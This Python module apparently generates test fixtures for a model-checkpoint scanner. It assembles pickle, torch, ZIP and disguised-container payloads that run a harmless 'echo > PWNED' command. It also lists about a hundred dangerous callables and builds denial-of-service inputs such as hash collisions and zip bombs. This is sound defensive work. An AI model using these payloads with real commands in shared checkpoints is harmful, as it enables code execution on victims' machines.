"""A gallery of hostile checkpoints. Read the unsafe way, most make a file `PWNED` in the current folder.

They are assembled, never built from live objects, so making them runs nothing.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import sys
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

from .assembler import (
    Assembler,
    Built,
    Call,
    Filled,
    Global,
    New,
    Persistent,
    Raw,
    b_float,
    legacy_stream,
    nested,
    pickled,
    storage,
    tensor,
)

Attack = tuple[str, bytes]

COMMAND = "echo > PWNED"
CODE = "open('PWNED','w').close()"
PROTOCOLS = range(6)

SYSTEM = Call(Global("os", "system"), (COMMAND,))

# What scanners have missed and advisories name, beside the obvious.
CALLED = """
os.system posix.system nt.system os.popen os.execv subprocess.Popen subprocess.check_output
_posixsubprocess.fork_exec builtins.eval builtins.exec builtins.compile builtins.open
builtins.__import__ builtins.getattr builtins.globals builtins.map builtins.apply __builtin__.eval
__builtin__.file __main__.anything io.open _io.FileIO importlib.import_module runpy.run_path
runpy._run_code code.InteractiveInterpreter codeop.compile_command pty.spawn shutil.rmtree
socket.create_connection ctypes.CDLL webbrowser.open timeit.timeit pdb.run bdb.Bdb.run cProfile.run
trace.Trace.run doctest.debug_script pydoc.locate pip.main pip._internal.main ensurepip._run_pip
pkgutil.resolve_name operator.attrgetter operator.methodcaller functools.partial functools.reduce
itertools.starmap types.FunctionType types.CodeType marshal.loads pickle.loads _pickle.loads
pickle.Unpickler dill.loads cloudpickle.loads joblib.load torch.load torch.hub.load torch.jit.load
torch.serialization.load torch.ops.load_library torch._dynamo.guards.GuardBuilder.get
torch.utils._config_module.load_config
torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression numpy.load
numpy.testing._private.utils.runstring numpy.f2py.crackfortran.myeval copyreg._reconstructor
copyreg.__newobj__ copyreg.add_extension copy_reg._reconstructor logging.config.listen
distutils.file_util.write_file uuid._get_command_stdout platform.popen commands.getoutput asyncio.run
multiprocessing.util.spawnv_passfds xmlrpc.client.ServerProxy urllib.request.urlopen sqlite3.connect
zipimport.zipimporter dnnlib.util.call_func_by_name dnnlib.util.open_url dnnlib.util.get_obj_by_name
torch_utils.persistence._src_to_module torch_utils.persistence.import_hook
torch_utils.persistence.persistent_class training.networks.Generator dnnlib.tflib.network.import_handler
dnnlib.tflib.network.Network.__setstate__ collections.OrderedDict.__init__.__globals__
collections.namedtuple collections.os.system torch._utils._rebuild_tensor_v2.__globals__.get
torch._utils._import_dotted_name numpy.core.multiarray.os.system numpy.dtype.__reduce__
argparse.Namespace.__class__ argparse._os.system codecs.encode _codecs.decode ｏｓ.system
""".split()  # noqa: SIM905 - a hundred names read better as a text


def called() -> Iterator[Attack]:
    """A plain call of a name that is not on the list, in every protocol."""
    for path in CALLED:
        module, _, name = path.rpartition(".")
        for protocol in PROTOCOLS:
            yield f"call-{path}-p{protocol}", pickled(Call(Global(module, name), (COMMAND,)), protocol)


def hidden() -> Iterator[Attack]:
    """A call in a place that nobody looks at."""
    tree = Call(
        Global("torch_utils.persistence", "_reconstruct_persistent_obj"),
        ({"type": "class", "class_name": "Generator", "version": 6, "module_src": SYSTEM, "state": {}},),
    )
    network = New(Global("dnnlib.tflib.network", "Network"))
    places: dict[str, Any] = {
        "value": {"g_ema": {}, "x": SYSTEM},
        "source": tree,
        "discriminator": {"G_ema": {}, "D": [[[SYSTEM]]]},
        "tf-state": (
            network,
            network,
            Built(New(Global("dnnlib.tflib.network", "Network")), {"version": SYSTEM}),
        ),
        "popped": [Raw(Assembler().code(SYSTEM) + b"0")],
        "popped-mark": [Raw(b"(" + Assembler().code(SYSTEM) + b"1")],
        "set": Call(Global("builtins", "set"), ([SYSTEM],)),
        "hooks": Call(Global("torch._utils", "_rebuild_parameter"), (1, True, SYSTEM)),
        "ordered-dict-state": Built(Call(Global("collections", "OrderedDict")), {"_metadata": SYSTEM}),
        "numpy-state": Built(Call(Global("numpy", "dtype"), ("f4", False, True)), (3, "<", SYSTEM)),
        "chain": Call(Call(Global("builtins", "getattr"), (Global("os", "path"), "os")), (COMMAND,)),
        "called-result": Call(Call(Global("collections", "OrderedDict")), (COMMAND,)),
        "called-text": Call("os.system", (COMMAND,)),
        "called-storage": Call(Global("torch", "FloatStorage"), (COMMAND,)),
        "called-record": Call(Global("dnnlib.tflib.network", "Network"), ({"build_module_src": CODE},)),
        "called-with-list": Call(Global("collections", "OrderedDict"), [1]),
    }
    for name, value in places.items():
        for protocol in (0, 2, 4) if "Raw" not in repr(value) else (2,):
            if protocol >= 2 or name not in ("tf-state", "called-record"):
                yield f"hidden-{name}-p{protocol}", pickled(value, protocol)


def states() -> Iterator[Attack]:
    """BUILD, NEWOBJ and their kin on what has no business with them."""
    setstate = {"__setstate__": Global("os", "system"), "__class__": Global("os", "system")}
    values: dict[str, Any] = {
        "setstate-on-global": Built(Global("collections", "OrderedDict"), setstate),
        "state-on-global": Built(Global("collections", "OrderedDict"), {"x": 1}),
        "state-on-function": Built(Global("torch._utils", "_rebuild_tensor_v2"), {"__code__": 1}),
        "slots-on-record": Built(New(Global("argparse", "Namespace")), (None, {"x": 1})),
        "setstate-then-build": Built(Built(New(Global("argparse", "Namespace")), setstate), COMMAND),
        "text-state": Built(New(Global("argparse", "Namespace")), COMMAND),
        "state-on-list": Built([1], {"x": 1}),
        "state-on-number": Built(7, {"x": 1}),
        "new-function": New(Global("numpy.core.multiarray", "_reconstruct")),
        "new-with-arguments": New(Global("argparse", "Namespace"), (COMMAND,)),
        "new-text": New("os.system"),
        "new-storage": New(Global("torch", "FloatStorage")),
        "new-size-of-text": New(Global("torch", "Size"), (COMMAND,)),
        "new-keywords": Raw(b"cargparse\nNamespace\n)}\x92"),
        "items-on-record": Filled(New(Global("argparse", "Namespace")), {"x": 1}),
        "items-on-global": Filled(Global("collections", "OrderedDict"), {"__init__": 1}),
        "append-to-record": Raw(b"cargparse\nNamespace\n)\x81K\x01a"),
        "object-array": Call(Global("numpy", "dtype"), ("O8", False, True)),
        "object-scalar": Call(
            Global("numpy.core.multiarray", "scalar"), (Call(Global("numpy", "dtype"), ("O", 0, 1)), b".")
        ),
        "record-array": Call(Global("numpy", "dtype"), ("V8", False, True)),
        "big-endian": Built(
            Call(Global("numpy", "dtype"), ("f4", False, True)), (3, ">", None, None, None, -1, -1, 0)
        ),
        "codec": Call(Global("_codecs", "encode"), ("x", "zip_codec")),
        "array-of-class": Call(
            Global("numpy.core.multiarray", "_reconstruct"), (Global("numpy", "dtype"), (0,), b"b")
        ),
        "array-not-empty": Call(
            Global("numpy.core.multiarray", "_reconstruct"), (Global("numpy", "ndarray"), (1 << 40,), b"b")
        ),
    }
    for name, value in values.items():
        yield f"state-{name}", pickled(value, 3)


def opcodes() -> Iterator[Attack]:
    """Opcodes that weight files never use, and tricks with those they do."""
    system = b"cos\nsystem\n"
    argument = b"X" + struct.pack("<I", len(COMMAND)) + COMMAND.encode()
    codes: dict[str, bytes] = {
        "inst": b"(" + argument + b"ios\nsystem\n.",
        "inst-known": b"(icollections\nOrderedDict\n.",
        "inst-text": b"(S'" + COMMAND.encode() + b"'\nios\nsystem\n.",
        "obj": b"(" + system + argument + b"o.",
        "obj-known": b"(ccollections\nOrderedDict\no.",
        "ext1": b"\x80\x02\x82\x01.",
        "ext2": b"\x80\x02\x83\x01\x00.",
        "ext4": b"\x80\x02\x84\x01\x00\x00\x00.",
        "ext4-negative": b"\x80\x02\x84\xff\xff\xff\xff.",
        "persid": b"(Pos.system\n.",
        "binpersid": b"\x80\x02" + argument + b"Q.",
        "binpersid-call": b"\x80\x02" + system + argument + b"\x85RQ.",
        "memo": system + b"p7\n0g7\n(" + argument + b"tR.",
        "memo-before-proto": system + b"p0\n\x80\x02h\x00(" + argument + b"tR.",
        "memo-long": b"\x80\x02" + system + b"r\xff\xff\xff\xff0j\xff\xff\xff\xff(" + argument + b"tR.",
        "memo-missing": b"\x80\x02h\x09(" + argument + b"tR.",
        "memo-negative": b"(cos\nsystem\np-1\n0g-1\n(" + argument + b"tR.",
        "memo-overwritten": b"\x80\x04\x8c\x0bcollections\x94\x8c\x0bOrderedDict\x94\x930"
        b"\x8c\x02osq\x00\x8c\x06systemq\x01h\x00h\x01\x93.",
        "stack-global": b"\x80\x04\x8c\x02os\x8c\x06system\x93" + argument + b"\x85R.",
        "stack-global-dotted": b"\x80\x04\x8c\x0bcollections\x8c\x14OrderedDict.__init__\x93.",
        "stack-global-numbers": b"\x80\x04K\x01K\x02\x93.",
        "stack-global-global": b"\x80\x04ccollections\nOrderedDict\n\x8c\x06system\x93.",
        "stack-global-dup": b"\x80\x04\x8c\x02os2\x93.",
        "dup": b"\x80\x02" + system + b"2(" + argument + b"tR.",
        "frame-too-long": b"\x80\x04\x95" + struct.pack("<Q", 1 << 60) + system + b"(" + argument + b"tR.",
        "frame-zero": b"\x80\x04\x95" + bytes(8) + system + b"(" + argument + b"tR.",
        "frame-in-frame": b"\x80\x04\x95"
        + struct.pack("<Q", 90)
        + b"\x95"
        + bytes(8)
        + system
        + b"("
        + argument
        + b"tR.",
        "proto-twice": b"\x80\x02\x80\x05" + system + b"(" + argument + b"tR.",
        "proto-99": b"\x80\x63" + system + b"(" + argument + b"tR.",
        "second-pickle": b"\x80\x02}." + system + b"(" + argument + b"tR.",
        "mark-then-call": b"\x80\x02" + system + b"(" + argument + b"lR.",
        "global-with-spaces": b"cos \nsystem\n(" + argument + b"tR.",
        "global-carriage-return": b"cos\r\nsystem\r\n(" + argument + b"tR.",
        "global-nul": b"cos\0\nsystem\n(" + argument + b"tR.",
        "global-empty": b"c\n\n(" + argument + b"tR.",
        "global-no-text": b"c\xff\xfe\n\xff\n.",
        "next-buffer": b"\x80\x05\x97.",
        "readonly-buffer": b"\x80\x05C\x01x\x98.",
        "list-in-key": b"\x80\x02}]K\x01s.",
        "tuple-in-key": b"\x80\x02})K\x01s.",
        "global-in-key": b"\x80\x02}ccollections\nOrderedDict\nK\x01s.",
        "huge-integer": b"\x80\x02\x8b" + struct.pack("<i", 1 << 20) + bytes(1 << 20) + b".",
        "negative-length": b"\x80\x02\x8b\xff\xff\xff\xff.",
        "negative-text": b"\x80\x02T\xff\xff\xff\xff.",
        "long-digits": b"(L" + b"9" * 100_000 + b"L\n.",
        "bytes-of-2-to-the-63": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 63) + b"x.",
        "text-of-2-to-the-63": b"\x80\x04\x8d" + struct.pack("<Q", (1 << 64) - 1) + b"x.",
        "bytearray-of-2-to-the-40": b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b"x.",
        "bad-escape": b"(S'\\d'\n.",
        "bad-unicode": b"\x80\x02X\x02\0\0\0\xff\xfe.",
        "no-stop": b"\x80\x02}",
        "only-stop": b"\x80\x02.",
        "two-values": b"\x80\x02}}.",
        "open-mark": b"\x80\x02(}.",
        "deep-tuples": b"\x80\x02)" + b"\x85" * 200_000 + b".",
        "deep-lists": b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".",
        "deep-marks": b"\x80\x02" + b"(" * 200_000 + b".",
        "too-many-opcodes": b"\x80\x02" + b"N0" * 300_000 + b"N.",
        "list-of-itself": b"\x80\x02]q\x00h\x00a.",
        "dict-of-itself": b"\x80\x02}q\x00X\x05\0\0\0g_emah\x00s.",
        "keys-of-one-hash": b"\x80\x02}("
        + b"".join(b"\x8a\x10" + n.to_bytes(16, "little") + b"N" for n in _one_hash(100_000))
        + b"u.",
        "memo-of-one-hash": b"]" + b"".join(b"p%d\n" % n for n in _one_hash(100_000)) + b".",
        "laughs": b"\x80\x02)" + b"2\x86" * 100 + b".",
        "unknown-opcode": b"\x80\x02\xff.",
    }
    yield from ((f"opcode-{name}", code) for name, code in codes.items())


def _one_hash(count: int) -> Iterator[int]:
    """Whole numbers that Python's hash cannot tell apart: a dict of them takes minutes."""
    return (index * sys.hash_info.modulus for index in range(1, count))


def inner_streams() -> Iterator[Attack]:
    """Calls inside torch's streams, where outside scanners do not look."""
    good = b_float(1, 2)
    load = Global("torch.storage", "_load_from_bytes")
    heads = pickled(0x1950A86A20F9469CFC6C) + pickled(1001)
    little = pickled({"little_endian": True})
    deep = Call(load, (legacy_stream(storage("0", 2), {"0": good}),))
    evil_class = Persistent(("storage", Global("os", "system"), "0", "cpu", 2, None))
    streams: dict[str, bytes] = {
        "object": legacy_stream(SYSTEM, {}),
        "system-facts": heads + pickled(SYSTEM) + pickled(storage("0", 2)) + pickled(["0"]),
        "keys": heads + little + pickled(storage("0", 2)) + pickled(SYSTEM),
        "version": pickled(0x1950A86A20F9469CFC6C) + pickled(SYSTEM),
        "magic": pickled(0x1950A86A20F9469CFC6D) + pickled(1001),
        "storage-class": legacy_stream(evil_class, {"0": good}),
        "module-class": legacy_stream(Persistent(("module", SYSTEM, "x.py", CODE)), {}),
        "unknown-identity": legacy_stream(Persistent(("code", CODE)), {}),
        "text-identity": legacy_stream(Persistent(COMMAND), {}),
        "stream-in-stream": legacy_stream(deep, {}),
        "big-endian": heads + pickled({"little_endian": False}) + pickled([]) + pickled([]),
        "other-version": pickled(0x1950A86A20F9469CFC6C) + pickled(7),
        "missing-key": legacy_stream(storage("0", 2), {}),
        "foreign-long-key": legacy_stream(storage("x" * 200 + "a", 2), {"x" * 200 + "b": good}),
        "number-for-a-key": heads
        + little
        + pickled(storage("0", 2))
        + pickled([0])
        + struct.pack("<q", 2)
        + good,
        "foreign-key": legacy_stream(storage("0", 2), {"1": good}),
        "wrong-count": heads
        + little
        + pickled(storage("0", 2))
        + pickled(["0"])
        + struct.pack("<q", 3)
        + good,
        "negative-count": heads + little + pickled(storage("0", -2)) + pickled(["0"]) + struct.pack("<q", -2),
        "huge-count": heads
        + little
        + pickled(storage("0", 1 << 62))
        + pickled(["0"])
        + struct.pack("<q", 1 << 62)
        + good,
        "key-twice": heads
        + little
        + pickled(storage("0", 2))
        + pickled(["0", "0"])
        + 2 * (struct.pack("<q", 2) + good),
        "trailing": legacy_stream(storage("0", 2), {"0": good}) + b"x",
    }
    for name, stream in streams.items():
        yield f"legacy-{name}", stream
        yield f"nested-{name}", pickled({"G_ema": Call(load, (stream,))}, 3)
    yield "nested-no-bytes", pickled(Call(load, (COMMAND,)), 3)
    yield "nested-archive", pickled(Call(load, (archive({"a/data.pkl": pickled(1)}),)), 3)


def tensors() -> Iterator[Attack]:
    """Tensors that claim more than the file holds; none may be materialised."""
    huge = 1 << 40
    values: dict[str, Any] = {
        "stride-0": tensor(nested(b_float(1), 1), (huge,), (0,)),
        "stride-0-square": tensor(nested(b_float(1), 1), (1 << 20, 1 << 20), (0, 0)),
        "beyond": tensor(nested(b_float(1), 1), (huge,), (1,)),
        "offset": tensor(nested(b_float(1), 1), (1,), (1,), offset=1),
        "negative-stride": tensor(nested(b_float(1, 2), 2), (2,), (-1,), offset=1),
        "negative-offset": tensor(nested(b_float(1), 1), (1,), (1,), offset=-4),
        "negative-size": tensor(nested(b_float(1), 1), (-1,), (1,)),
        "two-to-the-64": tensor(nested(b_float(1), 1), (1 << 32, 1 << 32), (0, 0)),
        "overflowing-stride": tensor(nested(b_float(1, 2), 2), (2,), ((1 << 64) + 1,)),
        "nine-axes": tensor(nested(b_float(1), 1), (1,) * 9, (1,) * 9),
        "uneven": tensor(nested(b_float(1), 1), (1,), (1, 1)),
        "float-size": tensor(nested(b_float(1), 1), (1.0,), (1,)),
        "truth-size": tensor(nested(b_float(1), 1), (True,), (1,)),
        "no-storage": tensor(COMMAND, (1,), (1,)),
        "lying-storage": tensor(nested(b_float(1), huge), (1,), (1,)),
        "array": Built(
            Call(Global("numpy.core.multiarray", "_reconstruct"), (Global("numpy", "ndarray"), (0,), b"b")),
            (1, (huge,), Call(Global("numpy", "dtype"), ("f4", False, True)), False, b_float(1)),
        ),
        "array-of-buffer": Call(
            Global("numpy.core.numeric", "_frombuffer"),
            (b_float(1), Call(Global("numpy", "dtype"), ("f4", False, True)), (huge,), "C"),
        ),
        "scalar": Call(
            Global("numpy.core.multiarray", "scalar"), (Call(Global("numpy", "dtype"), ("f4", 0, 1)), b"x")
        ),
    }
    for name, value in values.items():
        yield f"tensor-{name}", pickled({"conv1.conv.modulation.weight": value}, 3)


def multiplied() -> Iterator[Attack]:
    """Small files of few objects that are named so often that a walk over them would take minutes."""

    def noted(place: int, node: Any) -> Raw:
        return Raw(Assembler().code(node) + b"r" + struct.pack("<I", 1 << 30 | place) + b"0")

    def again(place: int) -> Raw:
        return Raw(b"j" + struct.pack("<I", 1 << 30 | place))

    def network(**components: Any) -> Built:
        state = {"version": 4, "static_kwargs": {}, "variables": [], "components": components}
        return Built(New(Global("dnnlib.tflib.network", "Network")), state)

    def module(members: Any, modules: dict[str, Any]) -> Call:
        state = {"_parameters": members, "_buffers": members, "_modules": modules}
        meta = {"type": "class", "version": 6, "class_name": "Generator", "state": state}
        return Call(Global("torch_utils.persistence", "_reconstruct_persistent_obj"), (meta,))

    names = [f"x{index}" for index in range(3000)]
    parts = [noted(1, network()), noted(2, network(**dict.fromkeys(names, again(1))))]
    whole = network(**dict.fromkeys(names, again(2)))
    yield (
        "multiplied-parts",
        b"".join(Assembler().code(part) for part in parts) + Assembler().code(whole) + b".",
    )
    nothing = noted(1, dict.fromkeys(f"x{index}" for index in range(100_000)))
    inner = noted(2, module(again(1), {}))
    whole = module(again(1), dict.fromkeys(names, again(2)))
    yield "multiplied-nothing", b"".join(map(Assembler().code, (nothing, inner, whole))) + b"."


def archive(files: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A ZIP archive."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as opened:
        for name, content in files.items():
            opened.writestr(name, content)
    return stream.getvalue()


def archives() -> Iterator[Attack]:
    """ZIP archives that lie, bomb, or hold a call."""
    evil, good = pickled(SYSTEM), pickled({"g_ema": storage("0", 2, view=False)})
    plain = archive({"a/data.pkl": good, "a/data/0": b_float(1, 2)})
    packed = archive({"a/data.pkl": good, "a/data/0": bytes(10_000_000)}, zipfile.ZIP_DEFLATED)
    at = plain.index(b"PK\x01\x02")
    files: dict[str, bytes] = {
        "call": archive({"a/data.pkl": evil}),
        "call-in-other-name": archive({"archive/data.pkl": evil, "archive/version": b"3"}),
        "two-names": _twice(evil, pickled({"g_ema": 1})),
        "bomb": packed,
        "no-pickle": archive({"a/readme.txt": b"x"}),
        "two-folders": archive({"a/data.pkl": good, "b/data.pkl": evil}),
        "torchscript": archive({"a/data.pkl": good, "a/constants.pkl": evil}),
        "big-endian": archive({"a/data.pkl": good, "a/byteorder": b"big"}),
        "missing-storage": archive({"a/data.pkl": good}),
        "short-storage": archive({"a/data.pkl": good, "a/data/0": b_float(1)}),
        "stream-inside": archive({"a/data.pkl": pickled(nested(b_float(1), 1))}),
        "cut": plain[:-30],
        "half": plain[: len(plain) // 2],
        "comment": plain[:-2] + b"\x01\x00x",
        "appended": plain + evil,
        "encrypted": plain[: at + 8] + b"\x01" + plain[at + 9 :],
        "other-size": plain[: at + 20] + struct.pack("<I", 7) + plain[at + 24 :],
        "huge-size": plain[: at + 20] + struct.pack("<II", 1 << 31, 1 << 31) + plain[at + 28 :],
        "elsewhere": plain[: at + 42] + struct.pack("<I", 5) + plain[at + 46 :],
        "other-name-inside": plain.replace(b"a/data.pkl", b"a/evil.pkl", 1),
        "many-entries": plain[:-14] + struct.pack("<HHII", 65535, 65535, len(plain), 0) + b"\0\0",
        "unknown-class": archive(
            {"a/data.pkl": pickled(Persistent(("storage", Global("os", "system"), "0", "cpu", 2)))}
        ),
        "npz": archive({"x.npy": b"\x93NUMPY"}),
    }
    yield from ((f"zip-{name}", content) for name, content in files.items())


def disguises() -> Iterator[Attack]:
    """A call in a container that other loaders open."""
    evil = pickled(SYSTEM)
    header = b'{"x":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'
    shape = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(118) + b"\n"
    files = {
        "npy-of-objects": b"\x93NUMPY\x01\x00" + struct.pack("<H", len(shape)) + shape + evil,
        "npz-of-objects": archive(
            {"x.npy": b"\x93NUMPY\x01\x00" + struct.pack("<H", len(shape)) + shape + evil}
        ),
        "safetensors-and-more": struct.pack("<Q", len(header)) + header + b"\0" + evil,
        "pickle-and-safetensors": evil + struct.pack("<Q", len(header)) + header + b"\0",
        "gzip": gzip.compress(evil),
        "bzip2": bz2.compress(evil),
        "xz": lzma.compress(evil),
        "zlib": zlib.compress(evil),
        "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + evil,
        "tar": b"storages".ljust(257, b"\0") + b"ustar\x0000" + bytes(247) + evil,
        "hdf5": b"\x89HDF\r\n\x1a\n" + bytes(40) + evil,
        "source": CODE.encode(),
        "shebang": b"#!/bin/sh\n" + COMMAND.encode(),
        "utf-16": b"\xff\xfe" + "cos\nsystem\n".encode("utf-16-le"),
        "byte-order-mark": b"\xef\xbb\xbf" + pickled(SYSTEM, 0),
        "leading-newline": b"\n" + pickled(SYSTEM, 0),
        "leading-zip": archive({"a/data.pkl": pickled(1)}) + evil,
        "zip-after-pickle": evil + archive({"a/data.pkl": pickled(1)}),
    }
    yield from ((f"disguise-{name}", content) for name, content in files.items())


def _twice(first: bytes, second: bytes) -> bytes:
    """An archive with two entries of one name, of which readers may take either."""
    content = archive({"a/data.pkl": first, "a/data.pkx": second})
    return content.replace(b"a/data.pkx", b"a/data.pkl")


def gallery() -> list[Attack]:
    """All of them, by name."""
    kinds = (called, hidden, states, opcodes, inner_streams, tensors, multiplied, archives, disguises)
    return [attack for kind in kinds for attack in kind()]
